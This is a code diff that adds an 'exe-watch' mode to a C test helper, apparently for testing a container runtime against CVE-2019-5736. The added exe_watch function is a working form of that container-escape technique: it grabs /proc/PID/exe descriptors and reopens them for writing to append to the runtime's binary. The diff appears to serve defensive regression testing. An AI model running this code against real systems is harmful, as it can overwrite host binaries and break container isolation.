@@ -20,12 +20,20 @@
  *   helper try CALL ARGS...  make one syscall, print "CALL: ok" or
  *                    "CALL: errno N" (mkdir PATH, chmod PATH, open PATH,
  *                    write PATH, getpid, uname, personality N)
+ *   helper exe-watch STOPFILE   the CVE-2019-5736 attacker: loop over
+  *                    /proc/PID/exe, keep O_PATH fds of every program that is
+ *                    not this rootfs's busybox or helper, and keep trying
+ *                    to reopen them O_WRONLY through /proc/self/fd/N and
+ *                    append to them, until STOPFILE exists; then print
+ *                    "grabbed: N" (distinct files held), "written: N" and
+ *                    "errno E: N" for each way the reopen failed
  *   helper all       everything above that reads state */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <stdbool.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -244,6 +252,83 @@ try_call (int argc, char **argv)
   return 0;
 }
 
+/* The exe watcher (see the top): what a process of a container does to
+   overwrite the runtime's binary on the host once the runtime executes it
+   in the container. */
+#define WATCH_MAX 256
+static int
+exe_watch (const char *stopfile)
+{
+  struct stat skip[3];
+  int nskip = 0;
+  const char *const own[] = { "/proc/self/exe", "/bin/busybox", "/bin/helper" };
+  for (int i = 0; i < 3; i++)
+    if (stat (own[i], &skip[nskip]) == 0)
+      nskip++;
+  int held[WATCH_MAX];
+  bool done[WATCH_MAX];
+  struct stat heldst[WATCH_MAX];
+  int nheld = 0, grabbed = 0, written = 0;
+  int errs[200] = { 0 };
+  printf ("ready\n");
+  fflush (stdout);
+  while (access (stopfile, F_OK) != 0)
+    {
+      DIR *d = opendir ("/proc");
+      struct dirent *e;
+      while (d && (e = readdir (d)) != NULL)
+        {
+          if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi (e->d_name) == getpid ())
+            continue;
+          char path[300];
+          snprintf (path, sizeof path, "/proc/%s/exe", e->d_name);
+          int fd = open (path, O_PATH | O_CLOEXEC);
+          struct stat st;
+          if (fd < 0)
+            continue;
+          int keep = fstat (fd, &st) == 0;
+          for (int i = 0; keep && i < nskip; i++)
+            keep = !(st.st_dev == skip[i].st_dev && st.st_ino == skip[i].st_ino);
+          for (int i = 0; keep && i < nheld; i++)
+            keep = !(st.st_dev == heldst[i].st_dev && st.st_ino == heldst[i].st_ino);
+          if (!keep || nheld == WATCH_MAX)
+            {
+              close (fd);
+              continue;
+            }
+          held[nheld] = fd;
+          done[nheld] = false;
+          heldst[nheld++] = st;
+          grabbed++;
+        }
+      if (d)
+        closedir (d);
+      for (int i = 0; i < nheld; i++)
+        {
+          if (done[i])
+            continue;
+          char path[64];
+          snprintf (path, sizeof path, "/proc/self/fd/%d", held[i]);
+          int w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
+          if (w < 0)
+            {
+              if (errno < 200)
+                errs[errno]++;
+              continue;
+            }
+          if (write (w, "pwned by a container\n", 21) == 21)
+            written++;
+          done[i] = true;
+          close (w);
+        }
+    }
+  printf ("grabbed: %d\nwritten: %d\n", grabbed, written);
+  for (int i = 0; i < 200; i++)
+    if (errs[i])
+      printf ("errno %d: %d\n", i, errs[i]);
+  return 0;
+}
+
 int
 main (int argc, char **argv)
 {
@@ -280,6 +365,8 @@ main (int argc, char **argv)
     return wait_signal ();
   else if (strcmp (what, "try") == 0 && argc > 2)
     return try_call (argc, argv);
+  else if (strcmp (what, "exe-watch") == 0 && argc > 2)
+    return exe_watch (argv[2]);
   else if (strcmp (what, "all") == 0)
     {
       report_ids ();
